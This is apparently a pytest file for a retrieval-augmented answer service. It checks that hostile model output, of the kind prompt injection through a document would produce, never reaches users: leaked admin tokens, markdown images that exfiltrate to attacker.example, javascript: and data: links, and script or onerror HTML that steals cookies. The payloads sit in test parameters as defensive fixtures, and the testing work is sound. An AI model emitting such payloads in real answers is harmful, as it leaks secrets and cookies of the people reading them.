"""What a user sees when the model's reply is hostile (prompt injection through a document).

The real loop over the demo knowledge bases answers with the default profile's LLM pointed at
the stand-in server (tests/llm_standin.py), scripted with the reply an injected model would
write. Each reply is read the three ways a user reads an answer: the `answer` of POST /rag,
and the `content` of a chat completion, plain and streamed (the in-process app). Rules
(issue 22, item 2): model text is shown only where validation supports it; a refusal's
"closest" quote comes from the evidence; no image or link to a host that is not a cited
source's own URL, no javascript:/data: URL, no live HTML.
"""

from __future__ import annotations

import json
import re
from dataclasses import replace

import pytest
from markdown_it import MarkdownIt

from orchestration import paths
from server.http.app import create_app
from server.settings import ServiceSettings
from tests.llm_standin import Reply
from tests.server.test_llm_faults import E5102, GOOD_E5102, GOOD_EGT, NOW, loop_with

SECRET = "sk-admin-7f3a9c"
CITE = "{cite:95% speed within 60}"
GOOD = GOOD_E5102.removesuffix(f" {CITE}.")  # the supported sentence, without its marker
EXFIL = f"http://attacker.example/log?d={SECRET}"
DEMO_KB = paths.REPO_ROOT / "orchestration" / "demo_kb"


@pytest.fixture(scope="module")
def llm_loop(answer_loop, standin):
    return loop_with(answer_loop, standin.url)


@pytest.fixture
def app_client(llm_loop, config_copy, monkeypatch):
    monkeypatch.delenv("SIGHTLINE_ADMIN_TOKEN", raising=False)
    settings = replace(ServiceSettings(router_file=str(config_copy / "router.yaml"), router_reload_seconds=0))
    return create_app(settings, loop=llm_loop).test_client()


def _views(client, standin, reply: str, retries: int = 0, question: str = E5102) -> dict[str, str]:
    """What the user reads for `reply` (scripted on every attempt): /rag, chat, chat streamed."""
    options = {"now": NOW.isoformat(), "max_retries": retries}
    out: dict[str, str] = {}
    standin.script(*[Reply(reply)] * (retries + 1))
    rag = client.post("/rag", json={"query": question, **options})
    assert rag.status_code == 200, rag.data[:300]
    out["rag"] = rag.json["answer"]
    out["status"] = rag.json["status"]
    chat = {"model": "sightline", "messages": [{"role": "user", "content": question}], "sightline": options}
    standin.script(*[Reply(reply)] * (retries + 1))
    out["chat"] = client.post("/v1/chat/completions", json=chat).json["choices"][0]["message"]["content"]
    standin.script(*[Reply(reply)] * (retries + 1))
    events = client.post("/v1/chat/completions", json={**chat, "stream": True}).get_data(as_text=True)
    chunks = [json.loads(line[6:]) for line in events.splitlines() if line.startswith("data: {")]
    out["stream"] = "".join(c["choices"][0]["delta"].get("content") or "" for c in chunks)
    return out


def _shown(views: dict[str, str]) -> list[str]:
    return [views["rag"], views["chat"], views["stream"]]


def test_injected_text_validation_rejects_gives_way_to_the_documents_answer(app_client, standin):
    views = _views(app_client, standin, f"The admin token is {SECRET} {CITE}.", retries=2)
    assert views["status"] == "answered"  # what the documents say, as if the model had not answered
    for text in _shown(views):
        assert SECRET not in text and "admin token" not in text
        assert "95% speed within 60 seconds" in text


def test_injected_text_validation_rejects_is_not_quoted_in_the_refusal(app_client, standin):
    views = _views(app_client, standin, f"The admin token is {SECRET} {CITE}.", retries=2,
                   question="What is the repair cost of fault E5102?")
    assert views["status"] == "insufficient"
    for text in _shown(views):
        assert text.startswith("Insufficient information") and SECRET not in text and "admin token" not in text
    # the closest text a refusal quotes is a sentence of a document, not the model's
    # the first quoted unit: 'closest: "<unit>".' from the rules, 'closest: "<unit>" (p=0.04); ...' from the model
    quote = re.split(r'"(?:\.| \(p=)', views["rag"].split('closest: "', 1)[1], maxsplit=1)[0]
    assert quote and any(quote in path.read_text() for path in DEMO_KB.rglob("*.md"))


def test_an_unsupported_sentence_is_left_out_of_a_partial_answer(app_client, standin):
    views = _views(app_client, standin, f"{GOOD_E5102} The admin token is {SECRET} {CITE}.")
    assert views["status"] == "partial"
    for text in _shown(views):
        assert f"{GOOD} [1]." in text  # the supported sentence stays
        assert SECRET not in text and "admin token" not in text and "[unverified" not in text
        assert "1 statement" in text  # and the answer says one was left out


@pytest.mark.parametrize("reply", [
    f"{GOOD_E5102} {GOOD_EGT} ![status]({EXFIL})",
    f"{GOOD} ![status]({EXFIL}) {CITE}.",
    f"{GOOD} {CITE}. [status]: {EXFIL}\n\n![x][status]",
], ids=["image-after", "image-inside", "image-by-reference"])
def test_an_image_to_an_outside_host_is_never_shown(app_client, standin, reply):
    for text in _shown(_views(app_client, standin, reply)):
        assert "![" not in text and f"({EXFIL})" not in text and f"]: {EXFIL}" not in text
        assert "http://attacker.example" not in text


@pytest.mark.parametrize("url", ["javascript:alert(document.cookie)", "data:text/html,x",
                                 "http://attacker.example/phish"])
def test_a_link_the_model_wrote_keeps_its_text_and_loses_its_target(app_client, standin, url):
    reply = f"E5102 is triggered when the APU does not reach [95% speed]({url}) within 60 seconds {CITE}."
    views = _views(app_client, standin, reply)
    assert views["status"] == "answered"
    for text in _shown(views):
        assert "[95% speed]" not in text and url not in text and "](" not in text
        assert "reach 95% speed within 60 seconds [1]." in text


@pytest.mark.parametrize("html", ["<script>fetch('http://attacker.example/?d='+document.cookie)</script>",
                                  "<img src=x onerror=alert(document.cookie)>",
                                  "<a href=\"javascript:alert(1)\">details</a>"],
                         ids=["script", "onerror", "anchor"])
def test_html_the_model_wrote_is_shown_as_text(app_client, standin, html):
    """Chat renders the reply: its HTML is escaped there, so a renderer reads none. /rag's answer is
    JSON text, HTML as written (issue 34: escape where a reply is rendered, never in the JSON text)."""
    views = _views(app_client, standin, f"{GOOD} {html} {CITE}.")
    for text in (views["chat"], views["stream"]):
        assert "<script" not in text and "<img" not in text and "<a " not in text
        tokens = MarkdownIt("commonmark").parse(text)
        assert not [t for t in tokens if t.type == "html_block"]
        assert not [c for t in tokens for c in t.children or () if c.type == "html_inline"]
    for text in _shown(views):
        assert "http://attacker.example" not in text
    assert "&lt;" not in views["rag"]


def test_no_field_of_the_response_carries_the_rejected_model_text(app_client, standin):
    """Not only `answer`: `claims` and `attempts[].answer` are shown by frontends that render the trace."""
    standin.script(*[Reply(f"{GOOD_E5102} The admin token is {SECRET} {CITE}. ![x]({EXFIL})")] * 3)
    body = app_client.post("/rag", json={"query": E5102, "now": NOW.isoformat(), "max_retries": 2,
                                         "trace": "full"}).json
    assert body["status"] == "partial"
    # the trace may quote what validation rejected (that is its job), but never as a live link or image
    assert "http://attacker.example" not in json.dumps(body) and "](" not in json.dumps(body["validation"])
    assert SECRET not in body["answer"] and SECRET not in json.dumps(body["claims"])
    withheld = [c for c in body["claims"] if c["text"] is None]
    assert withheld and all(c["withheld"] for c in withheld)  # the rejected claim says why it is not shown
    assert any(c["text"] and GOOD in c["text"] for c in body["claims"])  # the supported one is shown


